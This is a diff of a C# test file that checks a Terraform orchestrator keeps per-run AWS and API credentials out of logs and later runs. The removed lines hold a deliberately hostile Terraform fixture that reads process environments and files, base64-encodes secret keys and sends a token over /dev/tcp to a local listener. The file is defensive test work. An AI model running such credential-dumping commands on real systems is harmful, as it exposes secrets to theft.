@@ -2,6 +2,7 @@ using System.Text;
 using System.Text.Json.Nodes;
 using Microsoft.EntityFrameworkCore;
 using Npgsql;
+using Orchestrator.Credentials;
 using Orchestrator.Data;
 using Orchestrator.Web.Tests.Support;
 
@@ -10,25 +11,6 @@ namespace Orchestrator.Web.Tests.Credentials;
 /// <summary>What was minted for a run exists in its own processes, and nowhere else: not while it runs, and not afterwards.</summary>
 public sealed class SecretTests
 {
-    // Everything a configuration can think of to write its secrets into its own log.
-    private const string Curious = """
-        variable "listener" { type = number }
-        resource "terraform_data" "curious" {
-          provisioner "local-exec" {
-            interpreter = ["/bin/bash", "-c"]
-            command     = <<-EOT
-              printf '%s' "$TF_TOKEN_orchestrator_internal" > /dev/tcp/127.0.0.1/${var.listener}
-              echo '--- environment'; env
-              echo '--- processes'; cat /proc/*/environ | tr '\0' '\n'; cat /proc/*/cmdline | tr '\0' '\n'
-              echo '--- files'; find .. "$HOME" "$TMPDIR" -type f -not -name '*.tfplan' -exec cat {} +
-              printf -- '--- %s\n' base64; env | base64 -w0; echo; printf '%s' "x$AWS_SECRET_ACCESS_KEY" | base64 -w0; echo; printf '%s' "$AWS_SESSION_TOKEN" | base64 -w0
-              echo; printf 'split %s\n' "$AWS_SECRET_ACCESS_KEY" >&2
-              echo "key id $AWS_ACCESS_KEY_ID"
-            EOT
-          }
-        }
-        """;
-
     [Theory, EachDatabase]
     public async Task A_curious_configuration_gets_none_of_its_secrets_out(DatabaseProvider provider)
     {
@@ -39,7 +21,7 @@ public sealed class SecretTests
         await AwsTests.SetUpAsync(workspace, ("TFC_AWS_RUN_ROLE_ARN", Accounts.Trusting));
         await workspace.SetAsync(
             "listener", ((System.Net.IPEndPoint)listener.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture), hcl: true);
-        await workspace.UploadAsync(Curious);
+        await workspace.UploadSampleAsync("threats/dump");
 
         var run = await workspace.StartAsync(new JsonObject { ["auto-apply"] = true });
         using var limit = new CancellationTokenSource(Wait.Limit);
@@ -84,9 +66,7 @@ public sealed class SecretTests
         var platform = await SharedPlatforms.OfAsync(provider);
         var workspace = await TestWorkspace.CreateAsync(platform.Api, organization: "acme");
         await AwsTests.SetUpAsync(workspace, ("TFC_AWS_RUN_ROLE_ARN", Accounts.Trusting));
-        await workspace.UploadAsync("""
-            output "environment" { value = replace(file("/proc/self/environ"), "\u0000", "\n") }
-            """);
+        await workspace.UploadSampleAsync("threats/output");
 
         var run = await workspace.StartAsync(new JsonObject { ["auto-apply"] = true });
         var errored = await run.ReachAsync("errored");
@@ -105,11 +85,7 @@ public sealed class SecretTests
         var platform = await SharedPlatforms.OfAsync();
         var workspace = await TestWorkspace.CreateAsync(platform.Api, organization: "acme");
         await AwsTests.SetUpAsync(workspace, ("TFC_AWS_RUN_ROLE_ARN", Accounts.Trusting));
-        await workspace.UploadAsync("""
-            resource "terraform_data" "one" {}
-            # Not known before the apply.
-            output "environment" { value = terraform_data.one.id == "" ? "" : replace(file("/proc/self/environ"), "\u0000", "\n") }
-            """);
+        await workspace.UploadSampleAsync("threats/late-output");
 
         var run = await workspace.StartAsync(new JsonObject { ["auto-apply"] = true });
         await run.ReachAsync("applied");
@@ -123,6 +99,58 @@ public sealed class SecretTests
         await using var db = platform.Open();
         var apply = await db.Applies.AsNoTracking().FirstAsync(apply => apply.RunId == new RunId(run.Id));
         Assert.Equal(["state"], Orchestrator.Runs.WipeReceipt.Parse(apply.WipeReceiptJson)!.Findings);
+    }
+
+    [Theory]
+    [InlineData(CredentialDelivery.Endpoint)]
+    [InlineData(CredentialDelivery.WebIdentityFile)]
+    public async Task However_they_are_delivered_a_dump_shows_none(CredentialDelivery delivery)
+    {
+        var platform = await SharedPlatforms.OfAsync();
+        var workspace = await DeliveryTests.SetUpAsync(platform, policy => policy.Delivery = delivery);
+        await workspace.UploadSampleAsync("threats/dump");
+
+        var run = await workspace.ApplyAsync();
+
+        var log = await run.LogAsync("apply");
+        Assert.Contains(delivery == CredentialDelivery.Endpoint ? "AWS_CONTAINER_AUTHORIZATION_TOKEN=***" : "web_identity_token_file", log, StringComparison.Ordinal);
+        // The beginning of every token, in clear and in base64.
+        Assert.DoesNotContain("eyJhbGciOi", log, StringComparison.Ordinal);
+        Assert.DoesNotContain("ZXlKaGJHY2lPa", log, StringComparison.Ordinal);
+        AssertNone("apply log", Encoding.UTF8.GetBytes(log), [.. platform.Sts.Of(run.Id, "plan").All, .. platform.Sts.Of(run.Id, "apply").All]);
+        await AwsTests.AssertWipedAsync(platform, run);
+    }
+
+    [Fact]
+    public async Task Keys_that_are_fetched_and_printed_are_masked_and_nobody_is_left_who_asks()
+    {
+        var platform = await SharedPlatforms.OfAsync();
+        var workspace = await DeliveryTests.SetUpAsync(platform, policy => policy.Delivery = CredentialDelivery.Endpoint);
+        await workspace.UploadSampleAsync("threats/endpoint");
+
+        var run = await workspace.ApplyAsync();
+
+        var log = await run.LogAsync("apply");
+        Assert.Contains("\"SecretAccessKey\":\"***\"", log, StringComparison.Ordinal);
+        Assert.Contains("--- done", log, StringComparison.Ordinal);
+        AssertNone("apply log", Encoding.UTF8.GetBytes(log), [.. platform.Sts.Of(run.Id, "apply").All]);
+        await AwsTests.AssertWipedAsync(platform, run);
+    }
+
+    [Fact]
+    public async Task A_run_finds_nothing_of_the_run_before_it()
+    {
+        var platform = await SharedPlatforms.OfAsync();
+        var workspace = await DeliveryTests.SetUpAsync(platform, _ => { });
+        await workspace.UploadSampleAsync("threats/next-run");
+        await workspace.ApplyAsync();
+
+        var second = await workspace.ApplyAsync();
+
+        var log = await second.LogAsync("apply");
+        Assert.Contains("looked around", log, StringComparison.Ordinal);
+        Assert.DoesNotContain("\u001b[0mfound in", log, StringComparison.Ordinal);
+        SearchFiles(platform.DirectoryPath, 4, [.. platform.Sts.Of(second.Id, "apply").All]);
     }
 
     private static void SearchFiles(string directory, int atLeast, string[] secrets)
